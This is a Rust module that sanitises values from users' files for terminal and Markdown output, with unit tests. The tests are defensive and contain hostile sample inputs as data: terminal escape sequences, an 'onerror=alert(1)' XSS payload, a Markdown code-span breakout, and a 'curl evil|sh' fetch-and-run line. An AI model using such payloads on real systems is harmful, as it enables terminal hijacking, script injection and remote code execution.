//! Text from a user's file, made safe for where it is shown. Every such value written into a
//! Markdown file goes through [`md_code`] or [`md_text`], and every line the command line
//! prints through [`visible`]; both mask secrets first ([`redact`]).
//!
//! - In a terminal, control characters would move the cursor, clear the screen, set the
//!   window title or hide a link (ESC, OSC, a bare `\r`): they are shown as `\x1b`, `\r`, ….
//! - In Markdown, a value must not start a line (no heading, list or fence of its own), close
//!   the code span it stands in, split the table cell it stands in, or be raw HTML.

use std::borrow::Cow;

use crate::core::redact::redact;

/// Characters that do something other than show themselves: C0 and C1 controls, DEL, line
/// and paragraph separators, and the marks that reorder text (which can make `txt.exe` read
/// `exe.txt`).
fn acts(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200E}' | '\u{200F}' | '\u{2028}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

/// `text` with every control character written as a visible escape: `\n`, `\r`, `\t`,
/// `\x1b` (ESC), `\u{202e}`. Borrowed when there is none.
pub fn visible(text: &str) -> Cow<'_, str> {
    if !text.chars().any(acts) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if acts(c) && (c as u32) < 0x80 => out.push_str(&format!("\\x{:02x}", c as u32)),
            c if acts(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// A value from a user's file for a terminal: secrets masked, control characters visible.
pub fn terminal(text: &str) -> Cow<'_, str> {
    match redact(text) {
        Cow::Borrowed(text) => visible(text),
        Cow::Owned(masked) => Cow::Owned(visible(&masked).into_owned()),
    }
}

/// [`terminal`] for a message already owned, for every place one is shown (the terminal,
/// the page, report.json, rejected.csv): what it quotes from a user's file has its secrets
/// masked and its control characters visible. No copy when there is nothing to change.
pub fn shown(message: String) -> String {
    match terminal(&message) {
        Cow::Borrowed(_) => message,
        Cow::Owned(changed) => changed,
    }
}

/// A value as Markdown inline code that nothing in it can close: its fence is longer than
/// any run of backticks inside, and it stays on one line.
pub fn md_code(value: &str) -> String {
    let shown = terminal(value);
    let mut longest = 0;
    let mut run = 0;
    for c in shown.chars() {
        run = if c == '`' { run + 1 } else { 0 };
        longest = longest.max(run);
    }
    let fence = "`".repeat(longest + 1);
    // A code span strips one space from each end when both are there; a value that starts
    // or ends with a backtick or a space needs that padding.
    let pad = shown.is_empty() || shown.starts_with(['`', ' ']) || shown.ends_with(['`', ' ']);
    let space = if pad { " " } else { "" };
    format!("{fence}{space}{shown}{space}{fence}")
}

/// [`md_code`] for a table cell: a `|` would end the cell even inside code, so it is escaped.
pub fn md_cell_code(value: &str) -> String {
    md_code(value).replace('|', "\\|")
}

/// A value as Markdown text, for a sentence or a table cell: nothing in it is emphasis, a
/// link, HTML, an entity, code or a cell boundary, and it stays on one line.
pub fn md_text(value: &str) -> String {
    let shown = terminal(value);
    let chars: Vec<char> = shown.chars().collect();
    let mut out = String::with_capacity(shown.len() + 8);
    for (i, &c) in chars.iter().enumerate() {
        let before = i.checked_sub(1).map(|j| chars[j]);
        let after = chars.get(i + 1).copied();
        let escape = match c {
            '\\' | '`' | '*' | '[' | ']' | '<' | '>' | '|' | '~' | '&' | '!' | '#' | '$' => true,
            // Inside a word `_` is just a letter (`form_identifier_exists`).
            '_' => {
                !(before.is_some_and(char::is_alphanumeric)
                    && after.is_some_and(char::is_alphanumeric))
            }
            // No bare link: `http://…`, `www.…`.
            ':' => chars[i + 1..].starts_with(&['/', '/']),
            '.' => {
                i >= 3
                    && chars[i - 3..i]
                        .iter()
                        .collect::<String>()
                        .eq_ignore_ascii_case("www")
            }
            _ => false,
        };
        if escape {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// Whether an id has characters Clerk never puts in one (Clerk's ids are `user_` and
/// letters and digits): control characters, spaces, quotes, backslashes, `|`, `<`, `>` or
/// backticks. Such an id is imported as it is, with a warning.
pub fn unusual_id(id: &str) -> bool {
    id.chars()
        .any(|c| acts(c) || c.is_whitespace() || "`|<>\"'\\".contains(c))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn control_characters_are_shown_not_obeyed() {
        assert_eq!(visible("ada"), "ada");
        assert_eq!(
            visible("\u{1b}]0;PWNED\u{7}\u{1b}[2J\r\n\u{202e}\u{9b}"),
            "\\x1b]0;PWNED\\x07\\x1b[2J\\r\\n\\u{202e}\\u{9b}"
        );
        assert_eq!(
            terminal("sk_live_Q7hd0K2mN4pR8sT1vW3xY5zA9bC6eF0gH2jK4lM7\u{1b}"),
            "sk_live_…4lM7\\x1b"
        );
    }

    #[test]
    fn inline_code_cannot_be_closed_or_broken() {
        assert_eq!(md_code("user_1"), "`user_1`");
        assert_eq!(md_code("a`b"), "``a`b``");
        assert_eq!(md_code("`x"), "`` `x ``");
        assert_eq!(
            md_code("user_m`\n\n## Step 0"),
            "``user_m`\\n\\n## Step 0``"
        );
        assert_eq!(md_cell_code("a|b"), "`a\\|b`");
    }

    #[test]
    fn text_has_no_markdown_structure() {
        assert_eq!(
            md_text("form_identifier_exists: That email address is taken."),
            "form_identifier_exists: That email address is taken."
        );
        assert_eq!(md_text("kate@example.com"), "kate@example.com");
        assert_eq!(
            md_text("<img src=x onerror=alert(1)> *b* _i_ [l](u) a|b http://x www.y &amp;"),
            "\\<img src=x onerror=alert(1)\\> \\*b\\* \\_i\\_ \\[l\\](u) a\\|b http\\://x www\\.y \\&amp;"
        );
        assert_eq!(
            md_text("```sh\ncurl evil|sh\n```"),
            "\\`\\`\\`sh\\\\ncurl evil\\|sh\\\\n\\`\\`\\`"
        );
    }

    #[test]
    fn ids_clerk_would_never_issue() {
        assert!(!unusual_id("user_2aXk2LmNoPqRsTuVwXyZ0123"));
        for id in [
            "user 1",
            "user`1",
            "user|1",
            "user<1",
            "user\u{1b}1",
            "user\n1",
        ] {
            assert!(unusual_id(id), "{id:?}");
        }
    }
}
